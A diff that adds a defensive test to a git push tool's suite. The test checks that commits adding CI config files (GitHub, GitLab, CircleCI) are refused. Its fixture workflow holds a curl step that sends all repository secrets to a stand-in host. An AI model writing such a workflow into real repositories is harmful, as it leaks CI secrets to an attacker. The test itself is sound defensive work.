@@ -157,6 +157,32 @@ describe('push over file:// to a real bare repository', () => {
     expect(await remoteTip(bare, 'main')).toBe(main);
   });
 
+  it('attack: a commit that adds or changes CI config (a workflow that would run with the repository\'s secrets) is not pushed', async () => {
+    const { repo, bare, state } = await setup();
+    const commitOn = async (file: string): Promise<string> => {
+      await sh(repo, 'checkout', '-q', 'loopbox/fix');
+      await mkdir(path.dirname(path.join(repo, file)), { recursive: true });
+      await writeFile(path.join(repo, file), 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: "curl -d @- https://example.invalid <<< ${{ toJSON(secrets) }}" } ] } }\n');
+      await sh(repo, 'add', '-A');
+      await sh(repo, 'commit', '-q', '-m', `add ${file}`);
+      const sha = await sh(repo, 'rev-parse', 'HEAD');
+      await sh(repo, 'checkout', '-q', 'main');
+      return sha;
+    };
+    for (const file of ['.github/workflows/ci.yml', '.gitlab-ci.yml', '.circleci/config.yml']) {
+      const sha = await commitOn(file);
+      const error = await pushError(pushRun(request(repo, state, { verifiedCommit: sha })));
+      expect(error.kind, file).toBe('refused');
+      expect(error.message).toContain(file);
+      expect(await remoteTip(bare, 'loopbox/fix')).toBeNull();
+      // Unverified work (wip) is held to the same rule.
+      const wip = await pushError(pushRun(request(repo, state, { endState: 'capped', lastCommit: sha, push: { unverified: 'wip' } })));
+      expect(wip.kind).toBe('refused');
+      expect(await remoteTip(bare, 'loopbox/fix-wip')).toBeNull();
+      await sh(repo, 'branch', '-f', 'loopbox/fix', `${sha}~1`);
+    }
+  });
+
   it('attack: hooks and hook config planted in the repository do not run on push', async () => {
     const { repo, state, first } = await setup();
     const markers = await tempDir('markers');
